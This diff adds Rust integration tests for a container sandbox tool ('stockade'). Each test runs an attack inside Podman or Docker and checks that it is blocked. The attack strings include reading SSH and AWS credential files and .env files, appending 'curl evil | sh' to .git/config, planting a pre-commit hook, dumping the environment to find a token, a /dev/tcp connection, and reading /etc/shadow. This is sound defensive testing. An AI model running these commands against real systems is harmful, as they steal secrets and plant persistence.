@@ -1,0 +1,445 @@
+//! The container backends (`stockade run --backend podman|docker`) under real attacks:
+//! secrets, writes outside the workspace, protected paths, the environment, the network, the
+//! engine's socket, limits; each with a control that shows the same snippet succeeds
+//! without the protection. Every test runs under each engine this caller can use: as root,
+//! Podman and Docker (the daemon's); as an unprivileged user, rootless Podman (and Docker
+//! when the daemon's socket is theirs).
+//!
+//! An engine that is missing or does not answer is skipped, saying why; under `.ci/run`
+//! (`STOCKADE_REQUIRE_AGENT_CLIS=1`) a root caller's missing engine fails instead
+//! (scripts/test installs both and starts `dockerd`).
+
+#![allow(clippy::expect_used)]
+
+use std::path::Path;
+
+use attacks::{read_json, sh_quote, write_file, Cmd, Fixture};
+
+/// The engines this caller can use, each checked with `stockade doctor --backend E`.
+fn engines() -> Vec<&'static str> {
+    static FOUND: std::sync::OnceLock<Vec<&'static str>> = std::sync::OnceLock::new();
+    FOUND
+        .get_or_init(|| {
+            let mut found = Vec::new();
+            for engine in ["podman", "docker"] {
+                let out = std::process::Command::new(attacks::stockade_bin())
+                    .args(["doctor", "--json", "--backend", engine])
+                    .env("PATH", attacks::PATH)
+                    .output()
+                    .expect("run stockade doctor");
+                let v: serde_json::Value =
+                    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
+                if v["ok"] == true {
+                    found.push(engine);
+                    continue;
+                }
+                let why = v["checks"]
+                    .as_array()
+                    .and_then(|c| c.iter().find(|c| c["ok"] != true))
+                    .map(|c| format!("{}: {}", c["name"], c["detail"]))
+                    .unwrap_or_else(|| String::from_utf8_lossy(&out.stderr).into_owned());
+                let required = attacks::is_root()
+                    && std::env::var_os("STOCKADE_REQUIRE_AGENT_CLIS").is_some_and(|v| v == "1");
+                assert!(
+                    !required,
+                    "{engine} is required here and does not work: {why}"
+                );
+                eprintln!("SKIP {engine}: {why}");
+            }
+            found
+        })
+        .clone()
+}
+
+/// The unprivileged id a root caller's container runs as: it owns the fixture (a root
+/// caller's command runs as the workspace's owner).
+const TEST_USER: &str = "stockade-test";
+
+/// A fixture for the container backends: owned by [`TEST_USER`] when the caller is root.
+fn fixture() -> Fixture {
+    let fx = Fixture::new();
+    if attacks::is_root() {
+        let ok = std::process::Command::new("chown")
+            .args(["-R", &format!("{TEST_USER}:")])
+            .arg(&fx.root)
+            .status()
+            .expect("run chown")
+            .success();
+        assert!(ok, "chown the fixture to {TEST_USER}");
+    }
+    fx
+}
+
+fn opts<'a>(engine: &'a str, more: &[&'a str]) -> Vec<&'a str> {
+    let mut o = vec!["--backend", engine];
+    o.extend_from_slice(more);
+    o
+}
+
+fn attack(fx: &Fixture, engine: &str, more: &[&str], script: &str) -> attacks::Outcome {
+    fx.attack(&opts(engine, more), script).outcome()
+}
+
+#[test]
+fn runs_a_command_with_its_output_input_and_exit_code() {
+    for engine in engines() {
+        let fx = fixture();
+        fx.sandbox(&opts(engine, &[]), "echo out; echo err >&2; cat; exit 7")
+            .stdin("from stdin\n")
+            .run()
+            .assert_code(7)
+            .assert_stdout_contains("out\nfrom stdin\n")
+            .assert_stderr_contains("err\n");
+        // A missing command: 127, as a shell says it.
+        fx.sandbox_argv(&opts(engine, &[]), &["no-such-command-here"])
+            .run()
+            .assert_code(127);
+    }
+}
+
+#[test]
+fn masked_secrets_are_unreadable() {
+    for engine in engines() {
+        let fx = fixture();
+        for (path, marker) in [
+            (fx.home.join(".ssh/id_rsa"), fx.marker("ssh")),
+            (fx.home.join(".aws/credentials"), fx.marker("aws")),
+            (fx.ws.join(".env"), fx.marker("dotenv")),
+            (fx.ws.join("app/.env.production"), fx.marker("dotenvprod")),
+        ] {
+            let script = format!("cat {}", sh_quote(&path));
+            attack(&fx, engine, &[], &script).assert_blocked(&marker);
+            // Control: the same container reads the same bytes where no mask covers them.
+            fx.host(&format!(
+                "cp {} copy.txt && chmod 644 copy.txt",
+                sh_quote(&path)
+            ))
+            .run()
+            .assert_success();
+            attack(&fx, engine, &[], "cat copy.txt").assert_shows(&marker);
+            std::fs::remove_file(fx.ws.join("copy.txt")).expect("remove the copy");
+        }
+    }
+}
+
+#[test]
+fn writes_outside_the_workspace_are_refused() {
+    for engine in engines() {
+        let fx = fixture();
+        let target = fx.outside.join("target.txt");
+        let script = format!("echo pwned > {}", sh_quote(&target));
+        attack(&fx, engine, &[], &script).assert_failed();
+        assert_eq!(attacks::read_text(&target).as_deref(), Some("original\n"));
+        for dir in ["/usr", "/etc", "/var/tmp"] {
+            attack(&fx, engine, &[], &format!("echo x > {dir}/stockade-pwned")).assert_failed();
+            assert!(!Path::new(dir).join("stockade-pwned").exists(), "{dir}");
+        }
+        // Control: the same write where the policy allows it.
+        let outside = fx.outside.to_string_lossy().into_owned();
+        attack(&fx, engine, &["--allow-write", &outside], &script).assert_ok();
+        assert_eq!(attacks::read_text(&target).as_deref(), Some("pwned\n"));
+        // The workspace is writable; what the command makes belongs to the workspace's owner.
+        attack(&fx, engine, &[], "echo made > made.txt").assert_ok();
+        use std::os::unix::fs::MetadataExt;
+        let made = std::fs::metadata(fx.ws.join("made.txt")).expect("made.txt");
+        let ws = std::fs::metadata(&fx.ws).expect("ws");
+        assert_eq!((made.uid(), made.gid()), (ws.uid(), ws.gid()));
+    }
+}
+
+#[test]
+fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
+    for engine in engines() {
+        let fx = fixture();
+        attack(&fx, engine, &[], "echo 'curl evil | sh' >> .git/config").assert_failed();
+        assert!(!attacks::read_text(&fx.ws.join(".git/config"))
+            .unwrap_or_default()
+            .contains("evil"));
+        let hook = ".git/hooks/pre-commit";
+        let planted = format!("printf '#!/bin/sh\\necho owned\\n' > {hook} && chmod +x {hook}");
+        attack(&fx, engine, &[], &planted).assert_failed();
+        assert!(attacks::live_hooks(&fx.ws).is_empty());
+        // No creation guard: the sweep after the run neutralises a planted project file.
+        let report = fx.root.join("report.json");
+        let rep = report.to_string_lossy().into_owned();
+        attack(
+            &fx,
+            engine,
+            &["--report", &rep],
+            "mkdir .vscode && echo '{}' > .vscode/tasks.json",
+        )
+        .assert_ok();
+        assert!(!fx.ws.join(".vscode/tasks.json").exists());
+        let record = read_json(&report);
+        assert_eq!(record["backend"], engine);
+        assert!(
+            attacks::json_any_string(&record["violations"], &|s| s.contains(".vscode")),
+            "{record}"
+        );
+        // The record names the engine, the image's id, the container and the exact flags.
+        let c = &record["container"];
+        assert_eq!(c["engine"], engine, "{record}");
+        assert!(
+            attacks::json_str(c, "image_id").starts_with("sha256:"),
+            "{c}"
+        );
+        assert!(
+            attacks::json_str(c, "container").starts_with("stockade-"),
+            "{c}"
+        );
+        let args: Vec<&str> = (c["args"].as_array().expect("args").iter())
+            .filter_map(|a| a.as_str())
+            .collect();
+        for flag in ["--read-only", "--rm"] {
+            assert!(args.contains(&flag), "{flag}: {args:?}");
+        }
+        assert!(
+            args.windows(2).any(|w| w == ["--cap-drop", "ALL"]),
+            "{args:?}"
+        );
+        assert!(
+            args.windows(2).any(|w| w == ["--network", "none"]),
+            "{args:?}"
+        );
+        // Control: a plain file of the workspace is written and stays.
+        attack(&fx, engine, &[], "echo ok > notes.txt").assert_ok();
+        assert!(fx.ws.join("notes.txt").exists());
+    }
+}
+
+#[test]
+fn environment_is_scrubbed_and_values_stay_off_the_engines_command_line() {
+    for engine in engines() {
+        let fx = fixture();
+        let secret = fx.marker("envsecret");
+        let report = fx.root.join("report.json");
+        let rep = report.to_string_lossy().into_owned();
+        let script = "env; cat /proc/self/environ | tr '\\0' '\\n'";
+        fx.attack(&opts(engine, &["--report", &rep]), script)
+            .env("GITHUB_TOKEN", &secret)
+            .outcome()
+            .assert_hidden(&secret)
+            .assert_lacks("STOCKADE_CHECK_");
+        // A value the policy passes reaches the command, by name only on the engine's command
+        // line.
+        let passed = fx.marker("passed");
+        fx.attack(
+            &opts(engine, &["--report", &rep, "--env", "MY_SETTING"]),
+            "echo \"$MY_SETTING\"",
+        )
+        .env("MY_SETTING", &passed)
+        .outcome()
+        .assert_shows(&passed);
+        let record = read_json(&report);
+        assert!(
+            !attacks::json_any_string(&record["container"]["args"], &|s| s.contains(&passed)),
+            "{record}"
+        );
+    }
+}
+
+#[test]
+fn no_network_no_capabilities_no_engine_socket() {
+    for engine in engines() {
+        let fx = fixture();
+        // Only loopback, of the container's own.
+        attack(&fx, engine, &[], "ls /sys/class/net | grep -vx lo").assert_failed();
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+        let port = listener.local_addr().expect("addr").port();
+        let reach = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo REACHED");
+        attack(&fx, engine, &[], &format!("bash -c {}", sh_quote(&reach)))
+            .assert_blocked("REACHED");
+        // Control: --net host reaches the host's loopback.
+        attack(
+            &fx,
+            engine,
+            &["--net", "host"],
+            &format!("bash -c {}", sh_quote(&reach)),
+        )
+        .assert_shows("REACHED");
+        drop(listener);
+        // No capability in any set, no_new_privs, a seccomp filter.
+        attack(
+            &fx,
+            engine,
+            &[],
+            "grep -E '^(CapEff|CapPrm|CapBnd):' /proc/self/status | grep -v 0000000000000000",
+        )
+        .assert_failed();
+        // The engine's socket (root on the host to whoever reaches it) is not there.
+        attack(
+            &fx,
+            engine,
+            &[],
+            "ls -la /run/docker.sock /var/run/docker.sock /run/podman/podman.sock",
+        )
+        .assert_failed();
+        if attacks::is_root() {
+            // Files only root may read stay unreadable (the command is never root on the host).
+            attack(&fx, engine, &[], "head -c 1 /etc/shadow").assert_failed();
+            fx.host("head -c 1 /etc/shadow >/dev/null")
+                .run()
+                .assert_success();
+        }
+    }
+}
+
+/// A wrapper in front of the real engine that gives it `to` where stockade gave `from` (one
+/// argument, or an argument and the value after it), and passes everything else on.
+fn lying_engine(fx: &Fixture, engine: &str, from: &[&str], to: &[&str]) -> std::path::PathBuf {
+    let real = attacks::which(engine).expect("the engine");
+    let dir = fx
+        .root
+        .join(format!("lying-{}", from.join("-").replace('/', "_")));
+    attacks::mkdir(&dir);
+    let (first, rest) = from.split_first().expect("something to replace");
+    let skip_next = !rest.is_empty();
+    let to: Vec<String> = to.iter().map(sh_quote).collect();
+    let script = format!(
+        "#!/bin/bash\nargs=()\nskip=0\nfor a in \"$@\"; do\n  if [ $skip = 1 ]; then skip=0; continue; fi\n  if [ \"$a\" = {} ]; then skip={}; args+=({}); continue; fi\n  args+=(\"$a\")\ndone\nexec {} \"${{args[@]}}\"\n",
+        sh_quote(first),
+        u8::from(skip_next),
+        to.join(" "),
+        sh_quote(&real),
+    );
+    write_file(&dir.join(engine), script, 0o755);
+    dir
+}
+
+fn with_path(cmd: Cmd, first: &Path) -> Cmd {
+    cmd.env("PATH", format!("{}:{}", first.display(), attacks::PATH))
+}
+
+#[test]
+fn an_engine_that_ignores_a_hardening_flag_is_refused() {
+    for engine in engines() {
+        let fx = fixture();
+        let marker = fx.marker("ran");
+        let script = format!("echo {marker}");
+        for (from, to) in [
+            (&["--cap-drop", "ALL"][..], &["--cap-drop", "NET_RAW"][..]),
+            (&["--read-only"][..], &[][..]),
+            (&["--network", "none"][..], &["--network", "host"][..]),
+            (
+                &["--security-opt", "no-new-privileges"][..],
+                &["--security-opt", "label=disable"][..],
+            ),
+        ] {
+            let dir = lying_engine(&fx, engine, from, to);
+            let run = with_path(fx.sandbox(&opts(engine, &[]), &script), &dir).run();
+            run.assert_code(125)
+                .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
+                .assert_stderr_contains(from[0])
+                .assert_lacks(&marker);
+        }
+        // Control: the same wrapper changing nothing that matters runs the command.
+        let dir = lying_engine(&fx, engine, &["--no-such-flag"], &[]);
+        with_path(fx.sandbox(&opts(engine, &[]), &script), &dir)
+            .run()
+            .assert_success()
+            .assert_stdout_contains(&marker);
+    }
+}
+
+#[test]
+fn a_mask_the_engine_fills_is_refused() {
+    // Podman copies what lies below a new tmpfs into it unless told not to: without
+    // `notmpcopyup` a masked directory would show the secrets it masks.
+    if !engines().contains(&"podman") {
+        return;
+    }
+    let fx = fixture();
+    let marker = fx.marker("ssh");
+    let real = attacks::which("podman").expect("podman");
+    let dir = fx.root.join("copyup");
+    attacks::mkdir(&dir);
+    let script = format!(
+        "#!/bin/bash\nargs=()\nfor a in \"$@\"; do a=\"${{a//,notmpcopyup/}}\"; args+=(\"${{a//tmpfs-size=4096/tmpfs-size=1048576}}\"); done\nexec {} \"${{args[@]}}\"\n",
+        sh_quote(&real)
+    );
+    write_file(&dir.join("podman"), script, 0o755);
+    let run = with_path(
+        fx.sandbox(&opts("podman", &[]), "cat \"$HOME/.ssh/id_rsa\""),
+        &dir,
+    )
+    .run();
+    run.assert_code(125)
+        .assert_stderr_contains("masked directory")
+        .assert_lacks(&marker);
+}
+
+#[test]
+fn a_missing_engine_is_refused_with_the_fix() {
+    let fx = fixture();
+    for engine in ["podman", "docker"] {
+        fx.sandbox(&opts(engine, &["--json"]), "echo ran")
+            .env("PATH", "/nonexistent")
+            .run()
+            .assert_code(125)
+            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
+            .assert_stderr_contains(&format!("no `{engine}` on PATH"))
+            .assert_lacks("ran\n");
+    }
+}
+
+#[test]
+fn keep_leaves_the_container_and_says_how_to_remove_it() {
+    for engine in engines() {
+        let fx = fixture();
+        let report = fx.root.join("report.json");
+        let rep = report.to_string_lossy().into_owned();
+        attack(&fx, engine, &["--keep", "--report", &rep], "true").assert_ok();
+        let record = read_json(&report);
+        let name = attacks::json_str(&record["container"], "container").to_owned();
+        let kept = attacks::json_str(&record["container"], "kept").to_owned();
+        assert_eq!(kept, format!("{engine} rm --force {name}"));
+        let exists = |name: &str| {
+            std::process::Command::new(engine)
+                .args(["container", "inspect", name])
+                .env("PATH", attacks::PATH)
+                // Rootless Podman's store is in the caller's home, the fixture's here.
+                .env("HOME", &fx.home)
+                .stdout(std::process::Stdio::null())
+                .stderr(std::process::Stdio::null())
+                .status()
+                .is_ok_and(|s| s.success())
+        };
+        assert!(exists(&name), "{name} was not kept");
+        fx.host(&kept).run().assert_success();
+        assert!(!exists(&name));
+        // Control: without --keep, nothing is left.
+        attack(&fx, engine, &["--report", &rep], "true").assert_ok();
+        let record = read_json(&report);
+        let name = attacks::json_str(&record["container"], "container").to_owned();
+        assert!(!exists(&name), "{name} was left behind");
+    }
+}
+
+#[test]
+fn the_time_limit_ends_the_container() {
+    for engine in engines() {
+        let fx = fixture();
+        let began = std::time::Instant::now();
+        fx.sandbox(&opts(engine, &["--timeout", "2"]), "sleep 60")
+            .run()
+            .assert_code(124);
+        assert!(began.elapsed().as_secs() < 40, "{:?}", began.elapsed());
+    }
+}
+
+#[test]
+fn memory_is_bounded() {
+    let Some(python) = attacks::python3("the memory test") else {
+        return;
+    };
+    for engine in engines() {
+        let fx = fixture();
+        let grab = format!(
+            "{} -c 'b = bytearray(400 << 20); print(\"GOT\", len(b))'",
+            python.display()
+        );
+        attack(&fx, engine, &["--memory", "128M"], &grab).assert_blocked("GOT");
+        // Control: with room for it, the same allocation succeeds.
+        attack(&fx, engine, &["--memory", "2G"], &grab).assert_shows("GOT");
+    }
+}
